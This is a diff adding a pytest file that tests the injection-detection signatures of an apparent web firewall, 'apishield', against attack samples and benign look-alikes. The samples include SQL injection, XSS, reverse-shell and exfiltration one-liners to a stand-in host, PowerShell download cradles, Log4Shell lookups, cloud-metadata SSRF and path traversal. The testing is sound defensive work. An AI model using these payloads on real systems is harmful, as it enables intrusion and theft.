@@ -1,0 +1,193 @@
+"""Every injection signature fires on a hand-written example of its technique and stays silent on
+benign input that looks like it (prose with SQL words, URLs, dates, e-mail addresses, paths)."""
+
+from __future__ import annotations
+
+import hyperscan
+import pytest
+
+from apishield.checks.decode import variants
+from apishield.checks.matcher import default_matcher
+from apishield.checks.signatures import CLASSES, SIGNATURES, Signature
+from apishield.checks.signatures.base import confine
+from apishield.exchange import Severity
+
+EXAMPLES: dict[str, tuple[str, ...]] = {
+    "inj.sqli.union-select": ("0 UNION ALL SELECT name, pass FROM users", "1 union/**/select 1"),
+    "inj.sqli.stacked-query": ("7; DROP TABLE invoices", "x'; exec master.dbo.xp_regread"),
+    "inj.sqli.time-delay": ("1 AND SLEEP(5)", "1'; WAITFOR DELAY '0:0:5'--"),
+    "inj.sqli.catalogue": ("1 and 1=(select count(*) from information_schema.tables)",),
+    "inj.sqli.dangerous-function": ("1 and extractvalue(1,concat(0x7e,@@version))",),
+    "inj.sqli.quote-tautology": ("nobody' OR 'x'='x", 'bob" or 2>1 --'),
+    "inj.sqli.numeric-tautology": ("10 or 2=2 --", "5 AND 1=1"),
+    "inj.sqli.quote-comment": ("root'--", "root')/*"),
+    "inj.sqli.quote-keyword": ("x' ORDER BY 3", "9' union select null"),
+    "inj.sqli.select-from": ("select login, pwd from accounts",),
+    "inj.sqli.subquery": ("3 and ascii(substring(user(),1,1))>64",),
+    "inj.sqli.sql-function": ("GROUP_CONCAT(email)", "1 and database()"),
+    "inj.sqli.postgres-cast": ("(select version())::int", 'x\'::jsonb @> \'{"role":"admin"}'),
+    "inj.sqli.sql-clause": ("1 and case when 1=1 then 1 else 0 end",),
+    "inj.sqli.order-by-probe": ("2 order by 12--",),
+    "inj.sqli.char-concat": ("char(97)+char(100)+char(109)",),
+    "inj.xss.script-tag": ("<script>fetch('/x')</script>", "<ScRiPt src=//e.example>"),
+    "inj.xss.event-handler": ("<img src=x onerror=print()>", "<details open ontoggle=go()>"),
+    "inj.xss.attribute-breakout": ('" onfocus="steal()" autofocus x="',),
+    "inj.xss.handler-attribute": ("x onmouseover=run()",),
+    "inj.xss.script-uri": ("javascript:void(open('//e.example'))", "JaVaScRiPt:top.name"),
+    "inj.xss.data-uri": ("data:text/html,<b>hi</b>", "data:image/svg+xml;base64,AAAA"),
+    "inj.xss.active-tag": ("<iframe src=//e.example>", "<svg><g/></svg>"),
+    "inj.xss.script-call": ("';prompt(document.domain)//", "x=document.cookie;"),
+    "inj.xss.css-expression": ("width: expression(run())", "-moz-binding:url(x.xml#y)"),
+    "inj.xss.style-injection": ('<p style="background:url(//e.example/x)">', "<b datasrc=#x>"),
+    "inj.xss.html-comment-breakout": ("--><img src=1>", "</title><b>"),
+    "inj.rce.chained-command": ("8.8.8.8; uname -a", "file.txt | nc e.example 9", "a && whoami"),
+    "inj.rce.leading-command": ("ping -c 3 10.0.0.1", "nohup wget e.example"),
+    "inj.rce.command-substitution": ("$(id)", "name=`whoami`"),
+    "inj.rce.binary-path": ("/bin/sh", "exec 5<>/dev/tcp/e.example/80"),
+    "inj.rce.shell-evasion": ("cat${IFS}notes", "/???/c?t", "w'h'o'ami"),
+    "inj.rce.brace-expansion": ("{ls,-la}", "alias ll=rm"),
+    "inj.rce.shell-dash-c": ("sh -c 'id'",),
+    "inj.rce.shellshock": ("() { :; }; echo vulnerable",),
+    "inj.rce.reverse-shell": ("bash -i >& /dev/tcp/e.example/4444 0>&1", "nc -e /bin/sh e.x 9"),
+    "inj.rce.windows-batch": ("for %i in (*.txt) do type %i", "if exist c:\\boot.ini echo y"),
+    "inj.rce.windows-command": ("cmd.exe /c dir", "net user guest /active:yes"),
+    "inj.rce.powershell": ("powershell -nop -w hidden -enc AAAA", "IEX (New-Object Net.WebClient)"),
+    "inj.rce.redirection": ("echo hi > /tmp/x.sh", "ls 2>&1"),
+    "inj.lfi.traversal": ("../../../../secret.txt", "..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fa"),
+    "inj.lfi.dot-dot": ("../config.yaml",),
+    "inj.lfi.sensitive-file": ("/etc/shadow", "/proc/self/environ", "C:\\boot.ini"),
+    "inj.lfi.stream-wrapper": ("php://filter/convert.base64-encode/resource=x", "file:///srv/a"),
+    "inj.lfi.system-path": ("/etc/nginx.conf", "WEB-INF/web.xml"),
+    "inj.lfi.dotfile": ("/.git/config", "/.env"),
+    "inj.lfi.hidden-directory": ("/.vscode/settings.json", "static/.hg/store"),
+    "inj.lfi.null-truncation": ("report%00.pdf",),
+    "inj.rfi.remote-include": ("http://e.example/shell.txt?",),
+    "inj.rfi.ip-script": ("http://203.0.113.7/x.php",),
+    "inj.rfi.ip-url": ("ftp://198.51.100.4/drop",),
+    "inj.rfi.include-param": ("https://e.example/payload.txt",),
+    "inj.ssrf.loopback-url": ("http://127.1/admin", "http://[::ffff:127.0.0.1]/", "http://0x7f.1/"),
+    "inj.ssrf.metadata-url": ("http://169.254.169.254/", "http://metadata.google.internal/"),
+    "inj.ssrf.obfuscated-ip-url": ("http://3232235777/", "http://0300.0250.0.1/", "http://10.1/"),
+    "inj.ssrf.metadata-path": ("/latest/meta-data/iam/security-credentials/",),
+    "inj.ssrf.private-url": ("http://192.168.0.10:8080/", "https://10.1.2.3/"),
+    "inj.ssrf.exotic-scheme": ("gopher://e.example:25/_HELO", "dict://e.example:11211/stat"),
+    "inj.ssrf.bare-internal-host": ("localhost:8080/admin",),
+    "inj.ssrf.bare-loopback": ("169.254.169.254",),
+    "inj.log4shell.jndi": ("${jndi:ldap://e.example/a}",),
+    "inj.log4shell.nested-jndi": ("${${lower:j}ndi:${lower:r}mi://e.example/x}",),
+    "inj.log4shell.lookup-protocol": ("${${lower:jndi}:${lower:rmi}://e.example/x}",),
+    "inj.log4shell.lookup": ("${env:AWS_SECRET_ACCESS_KEY}",),
+    "inj.nosqli.operator-key": ("password[$ne]", '{"user": {"$gt": ""}}', "$regex"),
+    "inj.nosqli.js-where": ("'; return true; var x='", "db.users.find({})"),
+    "inj.xxe.external-entity": ('<!ENTITY xx SYSTEM "file:///srv/a">',),
+    "inj.xxe.doctype-entities": ('<!DOCTYPE r [<!ENTITY a "b">]>', '<xi:include href="x"/>'),
+    "inj.xxe.entity": ("<!ENTITY b 'c'>",),
+    "inj.ssti.template-probe": ("{{ 7*7 }}", "${41+1}", "<%= 3*3 %>"),
+    "inj.ssti.template-object-walk": ("{{ ''.__class__.__mro__[1] }}", "{{config.items()}}"),
+    "inj.ssti.template-directive": ('<#assign ex="freemarker.template.utility.Execute"?new()>',),
+    "inj.ssti.template-expression": ("{{ user.delete() }}",),
+    "inj.crlf.header-injection": ("en%0d%0aSet-Cookie: sid=1", "x\r\nLocation: //e.example"),
+    "inj.crlf.response-splitting": ("a%0d%0aHTTP/1.1 200 OK", "b\n\n<html>"),
+    "inj.crlf.encoded-break": ("x%250d%250aSet-Cookie:a",),
+    "inj.php.open-tag": ("<?php echo 1; ?>", "<?= $x ?>"),
+    "inj.php.function-call": ("shell_exec('id')", "system($_GET[c])"),
+    "inj.php.variable-function": ("$f($arg)", "('sys'.'tem')('id')"),
+    "inj.php.bbcode-tag": ("[php]phpinfo()[/php]",),
+    "inj.php.superglobal": ("$_SERVER['HTTP_HOST']",),
+    "inj.php.config-directive": ("allow_url_include=1",),
+    "inj.php.serialized-object": ('O:4:"User":1:{s:4:"role";s:5:"admin";}',),
+    "inj.php.serialized-array": ('a:1:{i:0;s:1:"x";}',),
+    "inj.php.upload-script": ("avatar.php.jpg", "shell.phtml", ".htaccess"),
+    "inj.java.runtime-exec": ("java.lang.Runtime", "new ProcessBuilder(cmd)"),
+    "inj.java.java-class": ("java.net.URLClassLoader", "javax.naming.InitialContext"),
+    "inj.java.framework-class": ("com.opensymphony.xwork2.ActionContext", "org.apache.tomcat.x"),
+    "inj.java.gadget-class": ("org.apache.commons.collections.functors.InvokerTransformer",),
+    "inj.java.serialized-stream": ("rO0ABXNyABFqYXZh", "aced00057372"),
+    "inj.java.serialized-base64": ("token=KztAAUc3IAE",),
+    "inj.java.expression-language": ("%{#_memberAccess['allowStaticMethodAccess']=true}",),
+    "inj.java.class-loader": ("class.module.classLoader.resources.context.parent",),
+    "inj.java.upload-jsp": ("cmd.jsp.", "page.jspx.png"),
+    "inj.java.exec-call": ("r.exec('id')",),
+}
+
+BENIGN = (
+    "Please select a seat from the list",
+    "The union selected its new representative on Friday",
+    "I'd like to describe the script of the play",
+    "Subscription renews on 2024-03-31 at 10:00",
+    "maria.garcia+billing@example.com",
+    "+44 20 7946 0958",
+    "(555) 010-4477",
+    "https://www.example.com/products?id=42&sort=price",
+    "/home/alice/documents/report-2024.pdf",
+    "C:\\Users\\alice\\Documents\\notes.txt",
+    "Tom & Jerry; the cat and mouse show",
+    "hello; more than that",
+    "Drop me a line, or call at 5",
+    "It's 5 o'clock somewhere",
+    "Order by phone: 0800 123 456",
+    "We love JavaScript: it runs everywhere",
+    "Operating system (OS) and file(s) attached",
+    "onboarding=complete",
+    "price was $5 (five dollars)",
+    "Rock 'n' roll -- forever",
+    "Version 2.1 - release notes",
+    "localhost",
+    '{"name": "Alice", "tags": ["a", "b"]}',
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+    "The expression on her face said everything",
+    "Arsenal canal evaluation",
+    "Where to eat near the station?",
+    "/.well-known/openid-configuration",
+    "https://api.example.com/v1.2/users/42",
+    "10.5% off; valid until Sunday",
+    "a < b and c > d",
+)
+
+
+def _fired(text: str) -> set[str]:
+    return {sig.rule_id for _, sig in default_matcher().scan(variants(text))}
+
+
+@pytest.mark.parametrize(
+    ("rule_id", "example"),
+    [(rule_id, example) for rule_id, examples in EXAMPLES.items() for example in examples],
+)
+def test_signature_fires_on_its_technique(rule_id: str, example: str) -> None:
+    assert rule_id in _fired(example)
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_benign_look_alikes_stay_silent(text: str) -> None:
+    assert _fired(text) == set()
+
+
+def test_every_signature_has_an_example() -> None:
+    assert {sig.rule_id for sig in SIGNATURES} == set(EXAMPLES)
+
+
+def test_rule_ids_are_unique_and_name_their_class() -> None:
+    ids = [sig.rule_id for sig in SIGNATURES]
+    assert len(ids) == len(set(ids))
+    for sig in SIGNATURES:
+        assert sig.cls in CLASSES
+        assert sig.rule_id.startswith(f"inj.{sig.cls}.")
+        assert sig.severity in (Severity.HIGH, Severity.MEDIUM)
+        assert sig.flags & hyperscan.HS_FLAG_CASELESS or sig.rule_id.endswith("-base64")
+
+
+@pytest.mark.parametrize("sig", SIGNATURES, ids=lambda sig: sig.rule_id)
+def test_pattern_compiles_alone(sig: Signature) -> None:
+    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+    database.compile(expressions=[sig.pattern.encode()], flags=sig.flags)
+
+
+def test_confine_keeps_patterns_off_the_newline() -> None:
+    assert confine(r"a\s+b") == "a[\\t\\x0b\\x0c\\r ]+b"
+    assert confine(r"[^>]*") == "[^\\n>]*"
+    assert confine(r"[\s/]") == "[\\t\\x0b\\x0c\\r /]"
+    assert confine(r"\[\s*\]") == "\\[[\\t\\x0b\\x0c\\r ]*\\]"
+    assert confine(r"[]a]") == "[\\]a]"
+    assert confine(r"[\r\n]x\n") == "[\\r\\r]x\\r"
+    assert confine(r"[^\n]") == "[^\\n\\n]"
